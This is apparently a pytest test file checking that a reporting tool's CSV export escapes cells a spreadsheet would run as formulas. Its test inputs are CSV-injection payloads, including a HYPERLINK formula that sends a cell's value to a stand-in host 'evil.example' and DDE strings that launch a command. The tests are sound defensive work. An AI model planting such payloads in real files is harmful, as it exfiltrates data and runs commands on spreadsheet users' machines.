"""The reports' CSV files: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from pmo_gates.reports.models import Table
from pmo_gates.reports.render import csv_cell, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign: some spreadsheets read it as '='
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_neutralised(text: str) -> None:
    cell = csv_cell(text)
    assert cell.startswith("'"), cell
    assert text.replace("\r", " ").replace("\n", " ") in cell  # the text itself is kept, readable


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, "-3", "-4.25", "ALPHA-12", "Late: 5 days", "", None, True])
def test_plain_values_are_untouched(value: object) -> None:
    expected = "" if value is None else "true" if value is True else str(value)
    assert csv_cell(value) == expected  # type: ignore[arg-type]


def test_written_file_holds_no_live_formula(tmp_path: Path) -> None:
    rows = [{"key": "ALPHA-1", "summary": FORMULAS[0], "days": -4}, {"key": "=1+1", "summary": "ok", "days": 2}]
    paths = write_csv([Table(key="stale", title="Stale", columns=["key", "summary", "days"], rows=rows)], tmp_path)
    with paths["stale"].open(encoding="utf-8") as handle:
        read = list(csv.reader(handle))
    cells = [cell for row in read[1:] for cell in row]
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r", "\uff1d") for cell in cells)
    assert read[1][2] == "-4" and read[2][0] == "'=1+1"
